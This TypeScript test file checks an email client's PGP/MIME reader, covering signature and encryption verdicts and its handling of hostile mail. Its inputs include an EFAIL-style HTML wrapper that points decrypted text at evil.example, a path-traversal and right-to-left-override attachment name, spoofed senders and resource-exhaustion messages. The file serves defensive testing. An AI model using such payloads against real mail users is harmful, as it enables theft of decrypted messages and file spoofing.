import { readdirSync, readFileSync, statSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createReader } from '../../../electron/engine/intake.ts';
import {
  buildEntity,
  buildHeader,
  buildMessage,
  joinMessage,
  newMessageId,
  type OutgoingMessage,
} from '../../../electron/engine/mime/build.ts';
import { draftFrom } from '../../../electron/engine/mime/reply.ts';
import { exportPublic, importKeys, makeKey } from '../../../electron/engine/openpgp/keys.ts';
import { sealEntity } from '../../../electron/engine/openpgp/seal.ts';
import type { ReadMessage } from '../../../electron/engine/rooms.ts';
import type { StoredKey } from '../../../electron/engine/store/types.ts';
import { mdnStateSchema, messageViewSchema } from '../../../shared/model/message.ts';
import { Gpg } from './openpgp/gpg.ts';

const shared = resolve(import.meta.dirname, '../../../../shared/corpora');
const gpg = new Gpg();
/** The reader's clock: after the last key was made, because a busy machine takes seconds to make one. */
let now = new Date();
const own = 'desk@lindenhof.example';
let desk: StoredKey;
let labSecret: StoredKey;
let lab: StoredKey;
let stranger: StoredKey;

beforeAll(async () => {
  desk = await makeKey({ name: 'Front Desk', address: own, now });
  gpg.makeKey('Lab <lab@labor.example>', 'future-default');
  [lab] = (await importKeys({ bytes: gpg.ok(['--export', 'lab@labor.example']) })) as [StoredKey];
  [labSecret] = (await importKeys({ bytes: gpg.ok(['--export-secret-keys', 'lab@labor.example']) })) as [StoredKey];
  stranger = await makeKey({ name: 'Mallory', address: 'mallory@evil.example', now });
  gpg.ok(['--import'], await exportPublic(desk));
  now = new Date();
});
afterAll(() => gpg.close());

const message = (change: Partial<OutgoingMessage> = {}): OutgoingMessage => ({
  from: { name: 'Lab', addr: 'lab@labor.example' },
  to: [{ name: 'Front Desk', addr: own }],
  cc: [],
  subject: 'Befund – Müller',
  date: now,
  messageId: newMessageId('lab@labor.example'),
  text: 'Kalium 4,1 mmol/l\n',
  ...change,
});

const read = (raw: Uint8Array | string, keys: readonly StoredKey[] = [desk, lab]): Promise<ReadMessage> =>
  createReader({ keys: () => keys, ownAddresses: () => [own], now: () => now }).read(Buffer.from(raw));

/** What the window's door lets through. */
const readViewSchema = messageViewSchema
  .omit({
    id: true,
    threadId: true,
    mailboxId: true,
    accountId: true,
    seen: true,
    flagged: true,
    answered: true,
    bodyMissing: true,
    evidence: true,
    sentBy: true,
  })
  .extend({ mdn: mdnStateSchema.omit({ answered: true }) });

const crlf = (text: string): string => text.replace(/\r?\n/g, '\r\n');

/** A PGP/MIME message whose ciphertext gpg made. */
function gpgSealed(entity: Uint8Array, sign: boolean, header = buildHeader(message())): Buffer {
  const armored = gpg.ok(
    ['--armor', '--encrypt', ...(sign ? ['--sign', '-u', 'lab@labor.example'] : []), '-r', own],
    entity,
  );
  return Buffer.from(
    crlf(
      `${header}Content-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary=b\n\n` +
        `--b\nContent-Type: application/pgp-encrypted\n\nVersion: 1\n\n--b\nContent-Type: application/octet-stream\n\n${armored}\n--b--\n`,
    ),
  );
}

describe('an ordinary message', () => {
  it('says nothing about protection that is not there', async () => {
    const { view, facts } = await read(await buildMessage(message()));
    expect(view.verdict).toMatchObject({
      encryption: 'none',
      signature: 'none',
      signer_shown: null,
      technology: 'none',
    });
    expect(view.sealTone).toBe('none');
    expect(facts).toMatchObject({
      subject: 'Befund – Müller',
      hasAttachment: false,
      sealed: false,
      preview: 'Kalium 4,1 mmol/l',
    });
    expect(view.blocks).toEqual([
      {
        part: '1',
        kind: 'text',
        content: 'Kalium 4,1 mmol/l\n',
        encrypted: false,
        signed: false,
        signatureStatus: null,
        label: null,
      },
    ]);
  });

  it('hands out attachments byte for byte under a harmless name', async () => {
    const bytes = Buffer.from([0, 1, 2, 255, 13, 10, 46]);
    const made = await read(
      await buildMessage(
        message({
          html: '<p>siehe Anhang</p>',
          files: [{ name: '../Befund ‮fdp.exe', type: 'application/pdf', bytes }],
        }),
      ),
    );
    const [file] = made.view.attachments;
    expect(file).toMatchObject({ name: 'Befund fdp.exe', risk: 'rtl' });
    expect(file && Buffer.from(made.attachment(file.part)?.bytes ?? []).equals(bytes)).toBe(true);
    expect(made.view.blocks[0]?.kind).toBe('html');
    expect(made.inspection.parts.map(({ role }) => role)).toEqual([
      null,
      null,
      'hidden-alternative',
      'html',
      'attachment',
    ]);
  });
});

describe('a sealed message', () => {
  it('that gpg encrypted and signed is proven, for the one From address', async () => {
    const entity = buildEntity({
      text: 'Kalium 4,1\n',
      files: [{ name: 'Befund.pdf', type: 'application/pdf', bytes: Buffer.from('%PDF-') }],
    });
    const { view, facts, inspection } = await read(gpgSealed(entity, true));
    expect(view.verdict).toEqual({
      encryption: 'full',
      signature: 'valid',
      signer_shown: 'lab@labor.example',
      covers_all_visible: true,
      technology: 'openpgp',
      reasons: [],
    });
    expect(view.sealTone).toBe('proven');
    expect(view.blocks[0]).toMatchObject({
      content: 'Kalium 4,1\n',
      encrypted: true,
      signed: true,
      signatureStatus: 'valid',
    });
    expect(view.attachments[0]).toMatchObject({ name: 'Befund.pdf', encrypted: true, signed: true });
    expect(facts.indexText).toContain('Kalium');
    expect(inspection.layers[0]).toMatchObject({
      kind: 'pgp-mime-enc',
      ignored: false,
      decryption: { status: 'ok', cipher: 'aes256', integrity: 'mdc' },
    });
  });

  it('made here is read here, with the same words', async () => {
    const outgoing = message({ from: { name: 'Front Desk', addr: own } });
    for (const [sign, encryptTo, expected] of [
      [desk, null, { encryption: 'none', signature: 'valid' }],
      [desk, [lab], { encryption: 'full', signature: 'valid' }],
      [null, [desk], { encryption: 'full', signature: 'none' }],
    ] as const) {
      const raw = joinMessage(
        buildHeader(outgoing),
        await sealEntity({ entity: buildEntity(outgoing), sign, encryptTo, now }),
      );
      expect((await read(raw)).view.verdict).toMatchObject(expected);
    }
  });

  it('survives bare LF line ends of a mail store', async () => {
    const raw = joinMessage(
      buildHeader(message()),
      await sealEntity({ entity: buildEntity(message()), sign: labSecret, encryptTo: null, now }),
    );
    const { view } = await read(Buffer.from(raw).toString('latin1').replace(/\r\n/g, '\n'));
    expect(view.verdict.signature).toBe('valid');
  });

  it('changed by one byte is broken and red', async () => {
    const raw = Buffer.from(
      joinMessage(
        buildHeader(message()),
        await sealEntity({ entity: buildEntity(message()), sign: labSecret, encryptTo: null, now }),
      ),
    );
    const at = raw.indexOf('Kalium');
    raw[at] = 0x6b;
    const { view } = await read(raw);
    expect(view.verdict).toMatchObject({ signature: 'invalid', signer_shown: null, reasons: ['invalid'] });
    expect(view.sealTone).toBe('stop');
  });

  it('by somebody else than From is a mismatch', async () => {
    const raw = joinMessage(
      buildHeader(message()),
      await sealEntity({ entity: buildEntity(message()), sign: stranger, encryptTo: null, now }),
    );
    const { view } = await read(raw, [desk, lab, stranger]);
    expect(view.verdict).toMatchObject({
      signature: 'mismatch',
      signer_shown: 'mallory@evil.example',
      reasons: ['signer-not-from'],
    });
    expect(view.sealTone).toBe('stop');
  });

  it('with two From addresses is never valid', async () => {
    const header = buildHeader(message()).replace('From: ', 'From: ceo@labor.example, ');
    const raw = joinMessage(
      header,
      await sealEntity({ entity: buildEntity(message()), sign: labSecret, encryptTo: null, now }),
    );
    const { view } = await read(raw);
    expect(view.verdict).toMatchObject({ signature: 'mismatch', reasons: ['multiple-from'] });
    expect(view.senderChecks.map(({ code }) => code)).toContain('multiple-from');
  });

  it('by an unknown or refused key cannot be judged, by a new one deserves a look', async () => {
    const raw = joinMessage(
      buildHeader(message()),
      await sealEntity({ entity: buildEntity(message()), sign: labSecret, encryptTo: null, now }),
    );
    expect((await read(raw, [desk])).view).toMatchObject({
      verdict: { signature: 'unknown-key', signer_shown: null },
      sealTone: 'look',
    });
    expect((await read(raw, [{ ...lab, trust: 'refused' }])).view.verdict).toMatchObject({
      signature: 'unknown-key',
      reasons: ['not-accepted'],
    });
    expect((await read(raw, [{ ...lab, trust: 'new' }])).view).toMatchObject({
      verdict: { signature: 'valid' },
      sealTone: 'look',
    });
  });

  it('with a footer of a list around it is signed in part, and the footer says so', async () => {
    const signed = Buffer.from(
      await sealEntity({ entity: buildEntity(message()), sign: labSecret, encryptTo: null, now }),
    ).toString('latin1');
    const raw = crlf(
      `${buildHeader(message())}List-Id: <l.lists.example>\nContent-Type: multipart/mixed; boundary=x\n\n--x\n${signed}\n--x\nContent-Type: text/plain\n\nfooter\n--x--\n`,
    );
    const { view } = await read(raw);
    expect(view.verdict).toMatchObject({
      signature: 'partial',
      covers_all_visible: false,
      signer_shown: 'lab@labor.example',
    });
    expect(view.blocks.map(({ signed: yes, label }) => [yes, label])).toEqual([
      [true, null],
      [false, 'mailing-list-footer'],
    ]);
    expect(view.sealTone).toBe('look');
  });

  it('inside a forwarded message changes nothing about the outer one', async () => {
    const inner = Buffer.from(
      joinMessage(
        buildHeader(message()),
        await sealEntity({ entity: buildEntity(message()), sign: labSecret, encryptTo: [desk], now }),
      ),
    ).toString('latin1');
    const raw = crlf(
      `${buildHeader(message({ from: { name: '', addr: 'other@x.example' } }))}Content-Type: multipart/mixed; boundary=x\n\n--x\nContent-Type: text/plain\n\nfyi\n--x\nContent-Type: message/rfc822\n\n${inner}\n--x--\n`,
    );
    const { view, inspection } = await read(raw);
    expect(view.verdict).toMatchObject({ encryption: 'none', signature: 'none', reasons: ['nested-only'] });
    expect(inspection.layers[0]).toMatchObject({ ignored: true, ignored_reason: 'nested-message' });
    expect(view.blocks[1]).toMatchObject({
      label: 'forwarded',
      encrypted: true,
      signed: true,
      signatureStatus: 'valid',
    });
    expect(view.blocks[1]?.content).toContain('Kalium');
    expect(view.attachments[0]?.name).toBe('Befund – Müller.eml');
  });

  it('with a signature around the encryption ignores that signature', async () => {
    const encrypted = await sealEntity({ entity: buildEntity(message()), sign: null, encryptTo: [desk], now });
    const raw = joinMessage(
      buildHeader(message()),
      await sealEntity({ entity: encrypted, sign: labSecret, encryptTo: null, now }),
    );
    const { view, inspection } = await read(raw);
    expect(view.verdict).toMatchObject({
      encryption: 'full',
      signature: 'none',
      reasons: ['signature-around-encryption'],
    });
    expect(inspection.layers.map(({ ignored }) => ignored)).toEqual([true, false]);
    expect(view.blocks[0]?.signed).toBe(false);
  });

  it('for a key that is not here is not opened, and says so', async () => {
    const { view } = await read(gpgSealed(buildEntity(message()), true), [lab]);
    expect(view.verdict).toMatchObject({ encryption: 'failed', signature: 'none', reasons: ['no-key'] });
    expect(view).toMatchObject({ sealTone: 'stop', blocks: [], warnings: ['envelope-not-opened'] });
  });

  it('without integrity protection is refused, whatever key is here', async () => {
    const armored = gpg.ok(
      ['--armor', '--encrypt', '--rfc2440', '--disable-mdc', '--cipher-algo', '3DES', '-r', own],
      buildEntity(message()),
    );
    const raw = crlf(
      `${buildHeader(message())}Content-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary=b\n\n--b\nContent-Type: application/pgp-encrypted\n\nVersion: 1\n\n--b\nContent-Type: application/octet-stream\n\n${armored}\n--b--\n`,
    );
    const { view, inspection } = await read(raw);
    expect(inspection.layers[0]?.decryption).toMatchObject({ status: 'integrity-missing', integrity: 'none' });
    expect(JSON.stringify(inspection.render)).not.toContain('Kalium');
    expect(view.verdict.encryption).toBe('failed');
  });

  it('damaged on the way shows nothing', async () => {
    const sealed = gpgSealed(buildEntity(message({ text: 'x'.repeat(5000) })), false).toString('latin1');
    const lines = sealed.split('\r\n');
    const at = lines.findIndex((line) => line.startsWith('-----BEGIN')) + 30;
    lines[at] = (lines[at] ?? '').replace(/[A-Z]/, (char) => (char === 'A' ? 'B' : 'A'));
    const { view, inspection } = await read(lines.join('\r\n'));
    expect(view.verdict.encryption).toBe('failed');
    expect(view.blocks).toEqual([]);
    expect(inspection.layers[0]?.decryption?.status).not.toBe('ok');
  });

  it('decrypted text is never put into foreign HTML', async () => {
    const armored = gpg.ok(
      ['--armor', '--encrypt', '-r', own],
      Buffer.from('Content-Type: text/html\r\n\r\nSECRET<img src="cid:x">'),
    );
    const raw = crlf(
      `${buildHeader(message({ from: { name: '', addr: 'mallory@evil.example' } }))}Content-Type: multipart/mixed; boundary=m\n\n--m\nContent-Type: text/html\n\n<img src="http://evil.example/?\n--m\nContent-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary=b\n\n--b\nContent-Type: application/pgp-encrypted\n\nVersion: 1\n\n--b\nContent-Type: application/octet-stream\n\n${armored}\n--b--\n--m\nContent-Type: text/html\n\n">\n--m--\n`,
    );
    const made = await read(raw);
    expect(made.view.verdict).toMatchObject({ encryption: 'partial' });
    const holding = made.view.blocks.filter(({ content }) => content.includes('SECRET'));
    expect(holding).toHaveLength(1);
    expect(holding[0]?.content).not.toContain('evil.example');
    expect(holding[0]).toMatchObject({ encrypted: true });
    const draft = draftFrom(made, { mode: 'reply', ownAddresses: [own], now });
    expect(draft.bodyText).not.toContain('SECRET');
    expect(draft.mustProtect).toBe(true);
  });

  it('inline PGP is read and counted in part', async () => {
    const clear = gpg.ok(['--clearsign', '-u', 'lab@labor.example'], 'Kalium 4,1\n').toString();
    const signed = await read(crlf(`${buildHeader(message())}Content-Type: text/plain\n\nbefore\n${clear}\nafter\n`));
    expect(signed.view.verdict).toMatchObject({ signature: 'partial', covers_all_visible: false });
    expect(signed.view.blocks.map(({ content, signatureStatus }) => [content.trim(), signatureStatus])).toEqual([
      ['before', null],
      ['Kalium 4,1', 'valid'],
      ['after', null],
    ]);
    expect(signed.view.blocks[1]).toMatchObject({ label: 'pgp-inline', signed: true });
    const secret = gpg.ok(['--armor', '--encrypt', '-r', own], 'Kalium 4,1\n').toString();
    const opened = await read(crlf(`${buildHeader(message())}Content-Type: text/plain\n\n${secret}\n`));
    expect(opened.view.verdict).toMatchObject({ encryption: 'partial' });
    expect(opened.view.blocks[0]).toMatchObject({ content: 'Kalium 4,1\n', encrypted: true });
  });
});

describe('header protection', () => {
  const inner = crlf(
    'Content-Type: text/plain; charset=utf-8; hp="cipher"\nSubject: Befund Anna Beispiel\nFrom: Lab <lab@labor.example>\n\nKalium\n',
  );
  it('a protected subject is shown in place of the outer one', async () => {
    const { view, inspection } = await read(
      gpgSealed(Buffer.from(inner), true, buildHeader(message({ subject: '[...]' }))),
    );
    expect(view.subject).toBe('Befund Anna Beispiel');
    expect(inspection.headers.subject).toBe('[...]');
    expect(inspection.header_protection).toMatchObject({
      mode: 'signed+encrypted',
      values: { subject: 'Befund Anna Beispiel' },
      outer: { subject: '[...]' },
    });
  });
  it('values that nothing protects are ignored', async () => {
    const { view, inspection } = await read(
      crlf(
        `${buildHeader(message({ subject: 'outer' }))}Content-Type: multipart/mixed; boundary=b\n\n--b\n${inner}\n--b--\n`,
      ),
    );
    expect(view.subject).toBe('outer');
    expect(inspection.header_protection).toMatchObject({
      mode: 'none',
      ignored: [{ part: '1.1', reason: 'misplaced' }],
    });
  });
});

describe('receipts and doubts', () => {
  it('a receipt is asked for only by exactly one valid address', async () => {
    const asking = await buildMessage(message({ dispositionNotificationTo: 'lab@labor.example' }));
    expect((await read(asking)).view.mdn).toEqual({ requested: true, to: 'lab@labor.example' });
    const two = Buffer.from(asking)
      .toString('latin1')
      .replace(/(Disposition-Notification-To: .*)/, '$1, b@c.example');
    expect((await read(two)).view.mdn).toEqual({ requested: false, to: null });
  });
  it('a name that is another address, and an answer that goes elsewhere, are said', async () => {
    const raw = await buildMessage(
      message({
        from: { name: 'lab@labor.example', addr: 'x@evil.example' },
        replyTo: [{ name: '', addr: 'y@evil.example' }],
      }),
    );
    const { view } = await read(raw);
    expect(view.senderChecks.map(({ code }) => code).sort()).toEqual(['display-name-is-address', 'reply-to-differs']);
    expect(view.sealTone).toBe('look');
  });
});

describe('hostile and broken messages', () => {
  const folders = ['stalwart-mail-parser', 'mime4j', 'sisimai', 'ham-easy'];
  it.each(folders)('nothing in %s throws, is slow, or leaves the schema', async (folder) => {
    const files = listMail(join(shared, folder)).slice(0, 400);
    expect(files.length, `corpus missing: ${join(shared, folder)}`).toBeGreaterThan(50);
    for (const file of files) {
      const started = performance.now();
      const made = await read(readFileSync(file));
      const { view } = made;
      expect(readViewSchema.safeParse(view).error?.issues ?? [], file).toEqual([]);
      expect(made.inspection.parts.length, file).toBeGreaterThan(0);
      expect(
        view.blocks.every(({ content }) => !/<script|\son\w+=\s*"/i.test(content)) ||
          view.blocks.every(({ kind }) => kind === 'text'),
        file,
      ).toBe(true);
      expect(performance.now() - started, file).toBeLessThan(10_000);
    }
  });

  it.each([
    [
      'a thousand levels',
      Array.from({ length: 1000 }, (_, i) => `Content-Type: multipart/mixed; boundary=b${i}\n\n--b${i}\n`).join(''),
    ],
    ['fifty thousand parts', `Content-Type: multipart/mixed; boundary=b\n\n${'--b\n\nx\n'.repeat(50_000)}`],
    ['a header of a megabyte', `Subject: ${'x'.repeat(1_000_000)}\n\nbody`],
    ['a hundred thousand fields', `${'A: b\n'.repeat(100_000)}\nbody`],
    ['an encoded word without end', `Subject: ${'=?utf-8?q?'.repeat(50_000)}\n\nbody`],
    ['brackets without end', `From: ${'('.repeat(100_000)}${'<'.repeat(100_000)}\n\nbody`],
    ['blanks before a soft break', `Content-Transfer-Encoding: quoted-printable\n\n${' '.repeat(2_000_000)}x`],
    ['HTML that opens for ever', `Content-Type: text/html\n\n${'<div>'.repeat(300_000)}`],
    ['HTML of angle brackets', `Content-Type: text/html\n\n${'<'.repeat(1_000_000)}`],
    ['links without end', `Content-Type: text/html\n\n${'<a href=https://x.example>'.repeat(60_000)}`],
    ['parameters without end', `Content-Type: text/plain${'; a*0="x"'.repeat(50_000)}\n\nbody`],
    [
      'pages without end',
      `Content-Type: multipart/mixed; boundary=b\n\n${`--b\nContent-Type: text/html\n\n${'<p>x</p>'.repeat(10_000)}\n`.repeat(150)}`,
    ],
    ['messages in messages', 'Content-Type: message/rfc822\n\n'.repeat(10_000)],
    ['nothing', ''],
    ['zeros', '\0'.repeat(100_000)],
  ])('%s is read within the limits', async (_name, raw) => {
    const started = performance.now();
    const made = await read(raw);
    expect(made.inspection.parse.defects.length).toBeGreaterThan(0);
    expect(made.view.blocks.length).toBeLessThanOrEqual(200);
    expect(performance.now() - started).toBeLessThan(10_000);
  });
});

function listMail(folder: string): string[] {
  return readdirSync(folder, { recursive: true, encoding: 'utf8' })
    .filter((name) => /\.(?:eml|msg|txt)$/.test(name) && !name.includes('_decoded'))
    .map((name) => join(folder, name))
    .filter((name) => statSync(name).isFile());
}
